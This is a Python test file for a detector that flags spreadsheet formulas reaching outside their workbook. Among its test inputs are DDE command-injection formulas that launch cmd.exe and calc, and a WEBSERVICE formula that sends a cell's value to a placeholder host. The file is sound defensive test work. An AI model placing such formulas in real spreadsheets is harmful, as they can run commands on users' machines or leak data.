"""Formulas that reach out of their workbook are known; those that reckon within it are left alone."""

from __future__ import annotations

import pytest
from scorekit_plugins.annotators.reaching import reaches_out


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!\"\"",
        '=HYPERLINK("http://example.org")',
        '=hyperlink (A1,"点我")',
        '1+_xlfn.WEBSERVICE("http://example.org/"&A1)',
        '_xlfn._xlws.IMAGE("http://example.org")',
        'IF(A1="#",HYPERLINK("file:///c:/a.exe","#"))',
        "[1]Sheet1!A1",
        "SUM('C:\\甲\\[乙.xlsx]表 1'!A1:A3)",
        "[乙.xlsx]表!$A$1",
        'RTD("a",,"b")',
        "REGISTER.ID(1)",
        'IMPORTXML("http://example.org","//a")',
    ],
)
def test_what_reaches_out_is_known(formula: str) -> None:
    assert reaches_out(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B2:B9)",
        '=HYPERLINK("#表!A1","回顶")',
        '=A1&"a|b"&"[1]表!A1"&"WEBSERVICE("',
        "表1[[#This Row],[人数]]/表1[职工]",
        "'表 1'!A1+表2!$B$2",
        "VLOOKUP(A1,'选项'!$A$1:$B$9,2,FALSE)&\"http://example.org\"",
        "MYCALL(1)+A.CALL(2)",
        '"甲,乙,丙"',
        "",
    ],
)
def test_what_reckons_within_the_workbook_is_left_alone(formula: str) -> None:
    assert not reaches_out(formula)
